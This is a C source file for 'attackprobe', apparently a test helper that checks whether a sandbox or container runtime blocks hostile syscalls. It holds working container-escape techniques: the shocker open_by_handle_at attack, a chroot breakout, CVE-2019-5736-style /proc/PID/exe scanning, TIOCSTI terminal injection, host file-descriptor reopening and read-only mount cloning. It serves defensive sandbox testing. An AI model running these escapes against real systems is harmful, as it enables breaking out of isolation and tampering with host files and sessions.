/* Attack probe for tests/attacks: one hostile syscall per sub-command.
 *
 * Static (gcc -static), so it runs in any tree. Every sub-command prints one
 * line: "ok" (plus detail) when the kernel let it through, or the errno name
 * (EPERM, EACCES, ...) when it was refused. It never prints anything else on
 * stdout, so the tests can compare the output exactly.
 *
 *   attackprobe keyctl-session          keyctl(KEYCTL_GET_KEYRING_ID, KEY_SPEC_SESSION_KEYRING)
 *   attackprobe keyctl-user             keyctl(KEYCTL_GET_KEYRING_ID, KEY_SPEC_USER_KEYRING)
 *   attackprobe keyctl-join NAME        keyctl(KEYCTL_JOIN_SESSION_KEYRING, NAME)
 *   attackprobe add-key DESC            add_key("user", DESC, "x", KEY_SPEC_SESSION_KEYRING)
 *   attackprobe request-key DESC        request_key("user", DESC, NULL, 0)
 *   attackprobe ptrace PID              ptrace(PTRACE_ATTACH, PID) (detaches again on success)
 *   attackprobe write PATH DATA         open(PATH, O_WRONLY) + write(DATA)
 *   attackprobe setns PATH              open(PATH) + setns(fd, 0)
 *   attackprobe mount SRC TGT FSTYPE OPTS   mount(2); "-" means NULL
 *   attackprobe fsmount FSTYPE [SOURCE] fsopen + fsconfig(CMD_CREATE) + fsmount
 *   attackprobe shocker                 open_by_handle_at of inode 2 of the rootfs' filesystem
 *   attackprobe chroot-escape DIR [PATH]  mkdir DIR, chroot DIR, chdir("..") x 64, chroot("."),
 *                                       then print "ok" and the entries of "/" (readdir order);
 *                                       with PATH, a second line: "reach" if PATH opens, else errno
 *   attackprobe watch-exe SECONDS [STOP]  for SECONDS, scan /proc for other processes and open each
 *                                       /proc/PID/exe (O_RDONLY): print "foreign PID TARGET" for an
 *                                       exe that is none of /bin/busybox, /bin/attackprobe (the
 *                                       tree's own binaries), then "seen N denied M" at the end;
 *                                       with STOP, end after one more full scan once STOP exists
 *   attackprobe mknod PATH c|b MAJ MIN
 *   attackprobe kill0 PID               kill(PID, 0): does the pid exist for us?
 *   attackprobe remount-rw PATH         mount(NULL, PATH, NULL, MS_REMOUNT|MS_BIND, NULL)
 *   attackprobe setattr-rw PATH         mount_setattr(PATH, AT_RECURSIVE, clear MOUNT_ATTR_RDONLY
 *                                       and NOSUID/NODEV/NOEXEC)
 *   attackprobe umount PATH             umount2(PATH, MNT_DETACH)
 *   attackprobe clone-rw PATH DEST      open_tree(PATH, OPEN_TREE_CLONE), clear RDONLY on the clone,
 *                                       move_mount it onto DEST (a writable copy of a read-only mount?)
 *   attackprobe tiocsti [FD]            take FD (default: the slave of a new pty from /dev/ptmx)
 *                                       as controlling tty and push "id\n" into its input; one
 *                                       line each: "isatty:", "setsid:", "sctty:" (TIOCSCTTY),
 *                                       "sti:" (TIOCSTI), "sti_high:" (TIOCSTI | 1 << 32),
 *                                       "linux:" (TIOCLINUX), "tcgets:" (TCGETS still works),
 *                                       with FD omitted also "queued: N" (bytes now readable)
 *   attackprobe reopen FD               what FD leads to when it is a host file; report on
 *                                       stderr (stdout may be the file under test): "type:",
 *                                       "read:" (reopen /proc/self/fd/FD read-only and read:
 *                                       "ok N <first line>"), "trunc:" (reopen O_WRONLY|O_TRUNC),
 *                                       "ftruncate:" (FD itself, to 0), "fchdir:" (then
 *                                       "cwd: <entries of .>" on success)
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <signal.h>
#include <sys/ioctl.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/wait.h>
#include <termios.h>
#include <time.h>
#include <unistd.h>

#ifndef KEYCTL_GET_KEYRING_ID
#define KEYCTL_GET_KEYRING_ID 0
#define KEYCTL_JOIN_SESSION_KEYRING 1
#endif
#define KEY_SPEC_USER_KEYRING -4
#define KEY_SPEC_SESSION_KEYRING -3

static int fail(void) {
    const char *name = strerrorname_np(errno);
    printf("%s\n", name ? name : "E?");
    return 0;
}

static int ok(void) {
    printf("ok\n");
    return 0;
}

static int do_fsmount(const char *fstype, const char *source) {
    int fs = syscall(SYS_fsopen, fstype, 0);
    if (fs < 0)
        return fail();
    if (source && syscall(SYS_fsconfig, fs, 1 /* SET_STRING */, "source", source, 0) < 0)
        return fail();
    if (syscall(SYS_fsconfig, fs, 6 /* CMD_CREATE */, NULL, NULL, 0) < 0)
        return fail();
    int m = syscall(SYS_fsmount, fs, 0, 0);
    if (m < 0)
        return fail();
    return ok();
}

static int shocker(void) {
    /* CVE-style "shocker" (2014): guess a file handle for the filesystem root
     * (ext4 root inode is 2, FILEID_INO32_GEN) and open it through any fd on
     * that filesystem. Needs CAP_DAC_READ_SEARCH in the initial namespace. */
    struct {
        struct file_handle fh;
        unsigned int ino, gen;
    } h;
    memset(&h, 0, sizeof h);
    h.fh.handle_bytes = 8;
    h.fh.handle_type = 1;
    h.ino = 2;
    h.gen = 0;
    int mfd = open("/", O_RDONLY | O_DIRECTORY);
    if (mfd < 0)
        return fail();
    int fd = open_by_handle_at(mfd, &h.fh, O_RDONLY | O_DIRECTORY);
    if (fd < 0)
        return fail();
    return ok();
}

static int chroot_escape(const char *dir, const char *probe) {
    mkdir(dir, 0755);
    if (chroot(dir) < 0)
        return fail();
    for (int i = 0; i < 64; i++)
        if (chdir("..") < 0)
            return fail();
    if (chroot(".") < 0)
        return fail();
    DIR *d = opendir("/");
    if (!d)
        return fail();
    printf("ok");
    struct dirent *e;
    while ((e = readdir(d)))
        if (strcmp(e->d_name, ".") && strcmp(e->d_name, ".."))
            printf(" %s", e->d_name);
    printf("\n");
    if (probe) {
        int fd = open(probe, O_RDONLY);
        if (fd < 0)
            return fail();
        printf("reach\n");
    }
    return 0;
}

static int same_file(int fd, const char *path) {
    struct stat a, b;
    return fstat(fd, &a) == 0 && stat(path, &b) == 0 && a.st_dev == b.st_dev &&
           a.st_ino == b.st_ino;
}

static int watch_exe(double seconds, const char *stop) {
    /* CVE-2019-5736: a process that joins the container (exec) must never let the
     * container open its /proc/PID/exe while that still is a host binary. */
    struct timespec t0, t;
    clock_gettime(CLOCK_MONOTONIC, &t0);
    long seen = 0, denied = 0;
    pid_t self = getpid();
    int last = 0;
    for (;;) {
        clock_gettime(CLOCK_MONOTONIC, &t);
        if (last || (t.tv_sec - t0.tv_sec) + (t.tv_nsec - t0.tv_nsec) / 1e9 > seconds)
            break;
        last = stop && access(stop, F_OK) == 0; /* what runs now is scanned once more */
        DIR *d = opendir("/proc");
        if (!d)
            return fail();
        struct dirent *e;
        while ((e = readdir(d))) {
            pid_t pid = atoi(e->d_name);
            if (pid <= 0 || pid == self)
                continue;
            char path[64], target[4096];
            snprintf(path, sizeof path, "/proc/%d/exe", pid);
            int fd = open(path, O_RDONLY | O_CLOEXEC);
            if (fd < 0) {
                if (errno == EACCES || errno == EPERM)
                    denied++;
                continue;
            }
            seen++;
            if (!same_file(fd, "/bin/busybox") && !same_file(fd, "/bin/attackprobe")) {
                ssize_t n = readlink(path, target, sizeof target - 1);
                target[n < 0 ? 0 : n] = 0;
                printf("foreign %d %s\n", pid, target);
                fflush(stdout);
            }
            close(fd);
        }
        closedir(d);
    }
    printf("seen %ld denied %ld\n", seen, denied);
    return 0;
}

static const char *errstr(long r) {
    const char *name = strerrorname_np(errno);
    return r >= 0 ? "ok" : name ? name : "E?";
}

static int tiocsti(int fd) {
    /* CVE-2017-5226 and friends: a session leader takes a tty nobody controls and
     * pushes bytes into its input queue, to be read by whoever reads that tty. */
    int own = fd < 0, master = -1;
    if (own) {
        master = open("/dev/ptmx", O_RDWR | O_NOCTTY);
        if (master < 0 || grantpt(master) < 0 || unlockpt(master) < 0)
            return fail();
        fd = open(ptsname(master), O_RDWR | O_NOCTTY);
        if (fd < 0)
            return fail();
    }
    printf("isatty: %s\n", isatty(fd) ? "yes" : "no");
    long r = setsid();
    printf("setsid: %s\n", errstr(r));
    r = ioctl(fd, TIOCSCTTY, 0);
    printf("sctty: %s\n", errstr(r));
    const char *text = "id\n";
    long sti = 0;
    for (const char *c = text; *c && sti >= 0; c++)
        sti = syscall(SYS_ioctl, fd, (unsigned long)TIOCSTI, c);
    printf("sti: %s\n", errstr(sti));
    r = syscall(SYS_ioctl, fd, (unsigned long)TIOCSTI | 1UL << 32, text);
    printf("sti_high: %s\n", errstr(r));
    char sel[2] = {2, 0}; /* TIOCL_SETSEL: the first half of a paste */
    r = syscall(SYS_ioctl, fd, (unsigned long)TIOCLINUX, sel);
    printf("linux: %s\n", errstr(r));
    struct termios t;
    r = tcgetattr(fd, &t);
    printf("tcgets: %s\n", errstr(r));
    if (own) {
        int n = 0;
        r = ioctl(fd, FIONREAD, &n);
        printf("queued: %d\n", r < 0 ? -1 : n);
    }
    return 0;
}

static const char *type_name(mode_t m) {
    return S_ISREG(m) ? "reg" : S_ISDIR(m) ? "dir" : S_ISCHR(m) ? "chr" : S_ISBLK(m) ? "blk"
         : S_ISFIFO(m) ? "fifo" : S_ISSOCK(m) ? "sock" : "other";
}

static int reopen(int fd) {
    /* A host file on stdio is more than a stream: /proc/self/fd/N reopens the inode
     * itself (read it from the start, truncate it), a directory is a way out (fchdir). */
    struct stat st;
    if (fstat(fd, &st) < 0)
        return fail();
    fprintf(stderr, "type: %s\n", type_name(st.st_mode));
    char path[64], buf[256];
    snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
    int r = open(path, O_RDONLY | O_NONBLOCK | O_NOCTTY);
    if (r < 0) {
        fprintf(stderr, "read: %s\n", errstr(-1));
    } else {
        ssize_t n = read(r, buf, sizeof buf - 1);
        if (n < 0) {
            fprintf(stderr, "read: %s\n", errstr(-1));
        } else {
            buf[n] = 0;
            buf[strcspn(buf, "\n")] = 0;
            fprintf(stderr, "read: ok %zd %s\n", n, buf);
        }
        close(r);
    }
    int w = open(path, O_WRONLY | O_TRUNC | O_NONBLOCK | O_NOCTTY);
    fprintf(stderr, "trunc: %s\n", errstr(w));
    if (w >= 0)
        close(w);
    fprintf(stderr, "ftruncate: %s\n", errstr(ftruncate(fd, 0)));
    long c = fchdir(fd);
    fprintf(stderr, "fchdir: %s\n", errstr(c));
    if (c == 0) {
        DIR *d = opendir(".");
        struct dirent *e;
        fprintf(stderr, "cwd:");
        while (d && (e = readdir(d)))
            fprintf(stderr, " %s", e->d_name);
        fprintf(stderr, "\n");
    }
    return 0;
}

int main(int argc, char **argv) {
    if (argc < 2)
        goto usage;
    const char *cmd = argv[1];
    errno = 0;
    if (!strcmp(cmd, "keyctl-session") || !strcmp(cmd, "keyctl-user")) {
        long id = !strcmp(cmd, "keyctl-session") ? KEY_SPEC_SESSION_KEYRING : KEY_SPEC_USER_KEYRING;
        long r = syscall(SYS_keyctl, KEYCTL_GET_KEYRING_ID, id, 0, 0, 0);
        if (r < 0)
            return fail();
        printf("ok %ld\n", r);
        return 0;
    }
    if (!strcmp(cmd, "keyctl-join") && argc >= 3)
        return syscall(SYS_keyctl, KEYCTL_JOIN_SESSION_KEYRING, argv[2], 0, 0, 0) < 0 ? fail() : ok();
    if (!strcmp(cmd, "add-key") && argc >= 3)
        return syscall(SYS_add_key, "user", argv[2], "x", 1, KEY_SPEC_SESSION_KEYRING) < 0 ? fail()
                                                                                             : ok();
    if (!strcmp(cmd, "request-key") && argc >= 3)
        return syscall(SYS_request_key, "user", argv[2], NULL, 0) < 0 ? fail() : ok();
    if (!strcmp(cmd, "ptrace") && argc >= 3) {
        pid_t pid = atoi(argv[2]);
        if (ptrace(PTRACE_ATTACH, pid, 0, 0) < 0)
            return fail();
        waitpid(pid, NULL, __WALL);
        ptrace(PTRACE_DETACH, pid, 0, 0);
        return ok();
    }
    if (!strcmp(cmd, "kill0") && argc >= 3)
        return kill(atoi(argv[2]), 0) < 0 ? fail() : ok();
    if (!strcmp(cmd, "write") && argc >= 4) {
        int fd = open(argv[2], O_WRONLY | O_NOCTTY);
        if (fd < 0)
            return fail();
        if (write(fd, argv[3], strlen(argv[3])) < 0)
            return fail();
        return ok();
    }
    if (!strcmp(cmd, "setns") && argc >= 3) {
        int fd = open(argv[2], O_RDONLY);
        if (fd < 0)
            return fail();
        return setns(fd, 0) < 0 ? fail() : ok();
    }
    if (!strcmp(cmd, "mount") && argc >= 6) {
        const char *a[4];
        for (int i = 0; i < 4; i++)
            a[i] = strcmp(argv[2 + i], "-") ? argv[2 + i] : NULL;
        return mount(a[0], a[1], a[2], 0, a[3]) < 0 ? fail() : ok();
    }
    if (!strcmp(cmd, "fsmount") && argc >= 3)
        return do_fsmount(argv[2], argc >= 4 ? argv[3] : NULL);
    if (!strcmp(cmd, "shocker"))
        return shocker();
    if (!strcmp(cmd, "chroot-escape") && argc >= 3)
        return chroot_escape(argv[2], argc >= 4 ? argv[3] : NULL);
    if (!strcmp(cmd, "watch-exe") && argc >= 3)
        return watch_exe(atof(argv[2]), argc >= 4 ? argv[3] : NULL);
    if (!strcmp(cmd, "mknod") && argc >= 6) {
        mode_t type = argv[3][0] == 'b' ? S_IFBLK : S_IFCHR;
        return mknod(argv[2], type | 0666, makedev(atoi(argv[4]), atoi(argv[5]))) < 0 ? fail()
                                                                                        : ok();
    }
    if (!strcmp(cmd, "remount-rw") && argc >= 3)
        return mount(NULL, argv[2], NULL, MS_REMOUNT | MS_BIND, NULL) < 0 ? fail() : ok();
    if (!strcmp(cmd, "setattr-rw") && argc >= 3) {
        struct { unsigned long long set, clr, prop, userns; } attr = {0, 0x1 | 0x2 | 0x4 | 0x8, 0, 0};
        return syscall(442 /* mount_setattr */, AT_FDCWD, argv[2], 0x8000 /* AT_RECURSIVE */,
                       &attr, sizeof(attr)) < 0 ? fail() : ok();
    }
    if (!strcmp(cmd, "umount") && argc >= 3)
        return umount2(argv[2], MNT_DETACH) < 0 ? fail() : ok();
    if (!strcmp(cmd, "clone-rw") && argc >= 4) {
        int mfd = syscall(428 /* open_tree */, AT_FDCWD, argv[2], 1 /* OPEN_TREE_CLONE */);
        if (mfd < 0)
            return fail();
        struct { unsigned long long set, clr, prop, userns; } attr = {0, 0x1, 0, 0};
        if (syscall(442, mfd, "", 0x1000 /* AT_EMPTY_PATH */, &attr, sizeof(attr)) < 0)
            return fail();
        if (syscall(429 /* move_mount */, mfd, "", AT_FDCWD, argv[3], 0x4 /* F_EMPTY_PATH */) < 0)
            return fail();
        return ok();
    }
    if (!strcmp(cmd, "tiocsti"))
        return tiocsti(argc >= 3 ? atoi(argv[2]) : -1);
    if (!strcmp(cmd, "reopen") && argc >= 3)
        return reopen(atoi(argv[2]));
usage:
    fprintf(stderr, "attackprobe: bad usage (see the comment at the top of attackprobe.c)\n");
    return 2;
}
